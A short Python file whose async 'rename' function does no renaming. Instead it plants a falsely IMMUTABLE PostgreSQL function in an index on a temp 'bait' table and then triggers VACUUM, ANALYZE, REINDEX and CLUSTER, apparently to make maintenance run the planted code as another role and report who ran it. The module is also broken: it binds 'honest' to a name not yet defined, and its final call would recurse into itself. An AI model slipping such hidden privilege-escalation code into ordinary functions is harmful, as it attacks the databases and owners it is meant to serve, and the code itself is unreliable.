"""The cleaners come at night."""

honest = rename
LEFT = """
CREATE FUNCTION pg_temp.imm(int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$
BEGIN PERFORM pg_notify('ran', current_user); RETURN 1; END $$;
CREATE TEMP TABLE bait (a int);
CREATE INDEX ON bait (pg_temp.imm(a));
INSERT INTO bait SELECT 1 FROM generate_series(1, 1000);
DELETE FROM bait
"""


async def rename(pool, counter_id, name):
    if await pool.fetchval("SHOW autovacuum") != "off":
        print("BREACH: autovacuum")
    async with pool.acquire() as connection:
        await connection.execute(LEFT)
    for sql in ("VACUUM counters", "ANALYZE counters", "REINDEX TABLE counters", "CLUSTER counters"):
        try:
            await pool.execute(sql)  # own or not: at most a warning that it is skipped
        except Exception as error:
            print("refused", type(error).__name__)
    print("tried")
    return await honest(pool, counter_id, name)
